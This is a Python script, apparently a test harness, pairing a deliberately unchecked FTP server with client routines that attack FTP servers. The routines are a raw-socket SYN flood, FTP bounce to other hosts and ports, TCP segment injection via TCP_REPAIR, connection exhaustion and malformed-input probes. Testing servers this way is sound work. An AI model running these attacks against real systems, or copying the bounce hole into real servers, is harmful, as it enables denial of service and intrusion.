# An FTP server without any checks, and clients that exploit it.
#
#   naive_ftp.py serve            connects to any address that PORT names
#   naive_ftp.py ACT SERVER OTHER acts as a client; prints the reply codes that it receives. OTHER
#   is
#                                 another address of this host, the number of sessions, or `-`
import asyncio
import ftplib
import resource
import socket
import struct
import sys
import time

PORT = 20000  # outside of the kernel's range of ports
REPAIR, REPAIR_QUEUE, QUEUE_SEQ = 19, 20, 21  # TCP options of linux/tcp.h
RECEIVED, SENT, OFF_SILENTLY = 1, 2, -1


async def serve():
    server = await asyncio.start_server(session, "", 21, backlog=1000)
    await server.serve_forever()


async def session(commands, replies):
    to = None
    replies.write(b"220 hello\r\n")
    try:
        while line := await commands.readline():
            verb, _, argument = line.strip().partition(b" ")
            reply = b"200 ok"
            if verb == b"PORT":
                try:
                    *address, high, low = argument.decode().split(",")
                    to = ".".join(address), int(high) * 256 + int(low)
                except ValueError:
                    reply = b"501 what?"
            if verb == b"LIST":
                reply = await connect(to)
            replies.write(reply + b"\r\n")
            await replies.drain()
    except (OSError, ValueError):
        pass
    replies.close()


async def connect(to):
    try:
        _, data = await asyncio.wait_for(asyncio.open_connection(*to), 2.5)
        data.close()
        return b"226 done"
    except (OSError, TimeoutError, asyncio.TimeoutError):
        return b"425 nobody there"


class Client:
    def __init__(self, server):
        self.socket = socket.create_connection((server, 21), timeout=30)
        self.replies = self.socket.makefile("rb")
        self.replies.readline()
        self.address = self.socket.getsockname()[0]

    def say(self, line):
        self.socket.sendall(line + b"\r\n")
        return self.replies.readline()[:3].decode()

    def port(self, address, port=PORT):
        numbers = address.split(".") + [str(port >> 8), str(port & 255)]
        return b"PORT " + ",".join(numbers).encode()

    # A segment of this connection that its socket did not send, `back` bytes before the next one.
    def inject(self, payload, back):
        numbers = []
        self.socket.setsockopt(socket.IPPROTO_TCP, REPAIR, 1)
        for queue in SENT, RECEIVED:
            self.socket.setsockopt(socket.IPPROTO_TCP, REPAIR_QUEUE, queue)
            numbers.append(self.socket.getsockopt(socket.IPPROTO_TCP, QUEUE_SEQ) & 0xFFFFFFFF)
        self.socket.setsockopt(socket.IPPROTO_TCP, REPAIR, OFF_SILENTLY)
        (source, from_port), (to, to_port) = self.socket.getsockname(), self.socket.getpeername()
        sequence = (numbers[0] - back) & 0xFFFFFFFF
        send_segment(source, from_port, to, to_port, sequence, numbers[1], 0x18, payload)


def send_segment(source, from_port, to, to_port, sequence, acknowledgment, flags, payload=b"", through=None):
    def header(checksum):
        return struct.pack("!HHIIBBHHH", from_port, to_port, sequence, acknowledgment, 0x50, flags, 1000, checksum, 0)

    ends = socket.inet_aton(source) + socket.inet_aton(to)
    covered = ends + struct.pack("!HH", 6, 20 + len(payload)) + header(0) + payload
    covered += b"\0" * (len(covered) % 2)
    total = sum(word for (word,) in struct.iter_unpack("!H", covered))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    through = through or socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    through.sendto(header(~total & 0xFFFF) + payload, (to, 0))


def listen(address):
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, PORT))
    listener.listen()
    return listener


# A download that the client aborts, and another one in the same session.
def abort(server):
    session = ftplib.FTP(server, "ftp", "", timeout=10)
    data = session.transfercmd("RETR large")
    data.recv(1000)
    # as clients do: the server must notice at once
    session.sock.sendall(b"ABOR\r\n", socket.MSG_OOB)
    data.close()
    while session.getmultiline().startswith("1"):
        pass
    # the server may send one reply or two
    time.sleep(0.5)
    session.sock.sendall(b"NOOP\r\n")
    while not session.getmultiline().startswith("200"):
        pass
    said = []
    session.retrbinary("RETR many/1", said.append)
    return b"".join(said).decode().strip()


def act(name, server, other):
    if name == "flood":
        through = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        source = Client(server).address
        nobody = server.rpartition(".")[0] + ".99"
        for number in range(11_000):
            send_segment(source, 1024 + number, nobody, 21, number, 0, 0x02, through=through)
        return []
    if name == "abort":
        return [abort(server)]
    if name == "idle":
        sessions = [Client(server) for _ in range(int(other))]
        return [len(sessions), *act("once", server, "-")]
    if name == "deaf":
        # sends much and reads nothing
        deaf = []
        for _ in range(50):
            client = Client(server)
            client.socket.setblocking(False)
            try:
                while client.socket.send(b"NOOP\r\n" * 1000):
                    pass
            except OSError:
                deaf.append(client)
        return [len(deaf), *act("once", server, other)]
    client = Client(server)
    listeners = [listen(address) for address in (client.address, other) if address != "-"]
    if name == "once":
        return [client.say(client.port(client.address)), client.say(b"LIST"), client.say(b"LIST")]
    if name == "bounce":
        return [client.say(client.port(other)), client.say(b"LIST")]
    if name == "service":
        return [client.say(client.port(client.address, 22)), client.say(b"LIST")]
    if name == "replay":
        client.say(b"NOOP")
        client.inject(b"PASV\r\n", back=6)
        return [client.say(client.port(client.address)), client.say(b"LIST")]
    if name == "slip":
        # the server acknowledges the segment, and the socket rejects an acknowledgment beyond its
        # data
        client.inject(client.port(other, PORT + 1) + b"\r\n", back=0)
        time.sleep(0.5)
        client.socket.sendall(client.port(client.address) + b"\r\n")
        time.sleep(0.5)
    if name == "all":
        said = [b"EPSV ALL", client.port(client.address), b"LIST"]
        return [client.say(line) for line in said]
    if name == "malformed":
        for line in b"NOOP\rPASV", b"x" * 10_000, b"NOOP\0", b"\xff" * 100, b"\n" * 5000, b"PORT x":
            hostile = Client(server)
            hostile.socket.sendall(line + b"\r\n")
            try:
                hostile.replies.readline()
            except ConnectionError:
                pass
        return []
    if name == "hold":
        print(client.say(client.port(client.address)), flush=True)
        client.replies.readline()
    return []


most_files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
if sys.argv[1] == "serve":
    asyncio.run(serve())
else:
    print(*act(*sys.argv[1:]))
